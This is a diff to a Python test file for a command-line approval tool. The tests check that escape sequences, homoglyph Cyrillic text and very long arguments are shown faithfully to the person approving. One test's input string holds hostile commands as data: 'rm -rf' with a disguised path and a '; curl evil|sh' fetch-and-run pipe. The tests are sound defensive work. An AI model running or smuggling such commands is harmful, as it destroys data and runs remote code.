@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import itertools
 import json
+import re
 
 import pytest
 
@@ -55,9 +57,14 @@ async def test_nothing_in_the_data_reaches_the_terminal(url: str) -> None:
     on_screen = at_terminal("approvals", url=url, types=None, columns=200, whole=True)
     question = at_terminal("approve", approval_id, url=url, types="n\n", columns=200)
     done = holdfast("approve", approval_id, url=url)
-    for shown in (listed.out, on_screen.said, question.said, done.said):
+    for shown, escape in (
+        (listed.out, "\\u001b"),
+        (on_screen.said, "\\u001b"),
+        (question.said, "\\u001b"),
+        (done.said, "\ufffd"),
+    ):
         assert "\x1b[31m to production?" not in shown
-        assert "Deploy billing\ufffd[31m to production?" in shown
+        assert f"Deploy billing{escape}[31m to production?" in shown
     again = holdfast("approve", approval_id, url=url)
     assert again.code == 4
     assert "\x1b" not in again.said
@@ -116,6 +123,37 @@ async def test_a_person_is_shown_what_exactly_and_asked(url: str) -> None:
     }
     again = at_terminal("approve", approval_id, url=url, types=None)
     assert again.code == 4, "and nobody is asked about what cannot be done"
+
+
+def row_of(said: str, label: str) -> str:
+    """Return what stands beside a label, over as many lines as it takes."""
+    lines = re.sub(r"\x1b\[[0-9;]*m", "", said).replace("\r", "").split("\n")
+    start = next(at for at, line in enumerate(lines) if line.startswith(f"  {label} "))
+    column = re.match(rf"  {label} +", lines[start]).end()  # type: ignore[union-attr]
+    rest = itertools.takewhile(lambda line: line.startswith(" " * column), lines[start + 1 :])
+    return "".join(line[column:].rstrip() for line in (lines[start], *rest))
+
+
+async def test_every_character_of_what_is_approved_is_shown(url: str) -> None:
+    service = "rm -rf /srv/tmp\u3000/  x \u0430pp " + "x y " * 3_000 + "; curl evil|sh "
+    _, approval_id = await asked(url, "deploy", service)
+    no = at_terminal("approve", approval_id, url=url, types="n\n", columns=77)
+    shown = row_of(no.said, "arguments")
+    assert json.loads(shown) == {"service": service, "to": "eu"}
+    assert r"/srv/tmp\u3000/ \u0020x \u0430pp " in shown
+    assert "in ASCII" not in no.said, "all of it is ASCII already"
+    for command in (("approvals",), ("show", (await read(url, approval_id)).task_id)):
+        listed = holdfast(*command, url=url).out
+        assert r'{"service": "rm -rf /srv/tmp\u3000/ \u0020x' in listed
+        assert re.search(r"\u2026 \([0-9,]+ more characters\)", listed)
+
+
+async def test_other_scripts_are_shown_as_they_are_and_once_more_in_ascii(url: str) -> None:
+    service = "\u0441\u043e\u0440\u0443"  # Cyrillic, and looks like "copy"
+    _, approval_id = await asked(url, "deploy", service)
+    no = at_terminal("approve", approval_id, url=url, types="n\n")
+    assert row_of(no.said, "arguments") == f'{{"service": "{service}", "to": "eu"}}'
+    assert row_of(no.said, "in ASCII") == r'{"service": "\u0441\u043e\u0440\u0443", "to": "eu"}'
 
 
 async def test_yes_asks_nobody(url: str) -> None:
